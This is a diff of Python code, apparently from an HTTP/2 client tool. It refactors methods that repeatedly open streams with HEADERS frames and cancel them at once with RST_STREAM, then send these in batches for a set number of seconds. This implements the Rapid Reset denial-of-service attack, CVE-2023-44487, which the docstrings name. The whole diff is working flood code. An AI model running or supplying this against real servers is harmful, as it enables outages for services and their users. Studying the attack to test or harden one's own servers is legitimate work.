@@ -112,7 +112,9 @@ class Connection:
 
     def resets(self, path, count, **fields):
         """The bytes that open so many streams and cancel them at once (CVE-2023-44487)."""
-        block, repeated = self.index_request(path, **fields)
+        return self._resets(count, *self.index_request(path, **fields))
+
+    def _resets(self, count, block, repeated):
         out = bytearray()
         for _ in range(count):
             stream = self.take_stream()
@@ -122,19 +124,14 @@ class Connection:
         return bytes(out)
 
     def rapid_reset(self, path, seconds, batch=500, **fields):
-        """Opens streams and cancels them at once, as fast as the peer reads (CVE-2023-44487). How many."""
+        """Sends such streams as fast as the peer reads. How many."""
         block, repeated = self.index_request(path, **fields)
         count = 0
         deadline = time.monotonic() + seconds
         while time.monotonic() < deadline and not self.closed:
-            out = bytearray()
-            for _ in range(batch):
-                stream = self.take_stream()
-                out += frame(HEADERS, END_HEADERS, stream, block)
-                out += frame(RST_STREAM, 0, stream, CANCEL)
-                block = repeated
-            if not self.send(bytes(out)):
+            if not self.send(self._resets(batch, block, repeated)):
                 break
+            block = repeated
             count += batch
         return count
 
